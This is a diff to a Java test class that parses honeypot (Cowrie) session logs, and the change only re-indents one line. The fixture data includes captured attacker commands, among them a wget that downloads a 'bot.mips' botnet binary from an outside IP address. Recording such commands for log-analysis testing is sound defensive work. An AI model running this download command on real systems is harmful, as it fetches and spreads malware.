@@ -213,7 +213,7 @@ class SessionImportTest {
                         + "\"",
                 "\"eventid\":\"cowrie.command.input\",\"input\":\"/bin/busybox ECCHI\"",
                 "\"eventid\":\"cowrie.command.input\",\"input\":\"wget"
-                    + " http://203.0.113.8/bot.mips\"",
+                        + " http://203.0.113.8/bot.mips\"",
                 "\"eventid\":\"cowrie.session.closed\",\"duration\":3"
             };
             for (String fields : rest) {
